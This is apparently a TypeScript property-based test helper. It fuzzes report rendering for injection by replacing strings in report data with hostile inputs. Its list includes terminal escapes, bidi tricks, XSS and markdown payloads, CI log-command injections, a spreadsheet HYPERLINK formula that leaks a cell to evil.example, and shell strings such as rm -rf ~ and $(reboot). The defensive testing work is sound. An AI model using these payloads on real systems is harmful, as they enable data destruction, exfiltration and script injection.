import fc from 'fast-check';
import { parseAddress } from '../../provider/model/address.ts';

/** Names that somebody could give a Virtual Account, a person, a file or a reason, to act on whoever reads a report. */
export const hostileStrings: readonly string[] = [
  '\u001b[31mred\u001b[0m\u001b[2J',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u009b2K\u0090',
  'left\u202etfel\u202c\u2066x\u2069',
  'zero\u200bwidth\u200d\ufeff\u00ad',
  'tag\u{e0041}\u{e007f}',
  'line\nbreak\r\nand\u2028more\u2029',
  'tab\there\u0000\u0008\u007f',
  'lone \ud800 surrogate',
  '@octocat and @acme/everybody',
  'jane@acme.com #123 !45 GH-7 $9 %milestone ~label &3',
  '![x](https://evil.example/x.png)',
  '[click](javascript:alert(1)) <https://evil.example> www.evil.example',
  '<img src=x onerror=alert(1)><!-- --><details open>',
  '</code></details><script>',
  '`code` ``two`` ```three',
  '| cell | cell |',
  '**bold** __bold__ ~~gone~~ $x^2$ :tada:',
  '/approve',
  '\n/approve\n/merge',
  '# heading',
  '- [x] done',
  '1. one',
  '> quote',
  '---',
  '=1+2',
  '+cmd',
  '-cmd',
  '@SUM(A1)',
  '\t=1+2',
  ' =1+2',
  '\uff1d1+2',
  '=HYPERLINK("https://evil.example?x="&A1,"\'")',
  'a,"b";c',
  '::error file=x::owned',
  '  ::set-output name=x::y',
  ':',
  '::',
  'x%0A::error::y%25',
  '##[error]owned',
  '##vso[task.setvariable variable=x]y',
  '####[add-mask]x',
  "'; rm -rf ~ #",
  '$(reboot)',
  '{ a: [b] } # comment',
  'no',
  '2026-11-24',
  '__proto__',
  '{{constructor}}',
  '${x}',
  '\\u{202e}',
  '',
  ' ',
  'x'.repeat(300),
  '名前 عربى 👩‍👩‍👧',
];

/** Hostile strings, pieces of them put together, and any text at all. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...hostileStrings),
  fc.array(fc.constantFrom(...hostileStrings), { minLength: 2, maxLength: 4 }).map((parts) => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({
    unit: fc.constantFrom(...Array.from('`|<>@#:=+-\\/*_~![](){}&%$"\'\n\r\t .ab1\u202e\u001b')),
    maxLength: 24,
  }),
);

/**
 * The same data with foreign strings replaced. What the types fix (a verb, a role, a day) stays, or the data would not
 * be a report; ids and addresses keep what stands before the name.
 */
export function madeHostile<T>(data: T, text: string): T {
  return replaced(data, text, undefined) as T;
}

function replaced(value: unknown, text: string, key: string | undefined): unknown {
  if (typeof value === 'string') return replacedString(value, text, key);
  if (Array.isArray(value)) return value.map((each) => replaced(each, text, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, replaced(each, text, name)]));
}

function replacedString(value: string, text: string, key: string | undefined): string {
  if (fixedWords.has(value) || (key !== undefined && fixedKeys.has(key))) return value;
  const [, address = value] = /^[a-z-]+ (.*)$/s.exec(value) ?? [];
  return parseAddress(address) === undefined ? text : `${value}${text}`;
}

const fixedKeys = new Set(['day', 'digest', 'sha256', 'command']);
const fixedWords = new Set(
  [
    'create update rename move set-default drain delete grant change-binding revoke api portal none opens-access',
    'removes-access destroys administrator user viewer approver view manage administer agree company partner stranger',
    'unknown itself below both children smart-account escalated equal reduced created deleted stays refuses accepted',
    'not-evaluated bridging-binding access-gap partners-overlap proven not-proven missing changed undeclared renamed',
    'known on-trust present absent everyone asked error warning info done failed partial skipped portal-open written',
    'by-read attested needs-failed complete incomplete stopped refused declined open closed severity ceiling delegate',
    'looser tighter other live layout rule guard code grant-ends review-due acceptance-ends removal-ends ignore-ends',
    'not-done restricted unrestricted smartAccount before-holds 0 1 2 3 4 5 6a 6b split embedded snapshot cisco accept',
    'ok warn fail settings run-store token account',
    'plan-refused plan-outdated role children parent default description visibility tags administrators',
  ].flatMap((line) => line.split(' ')),
);
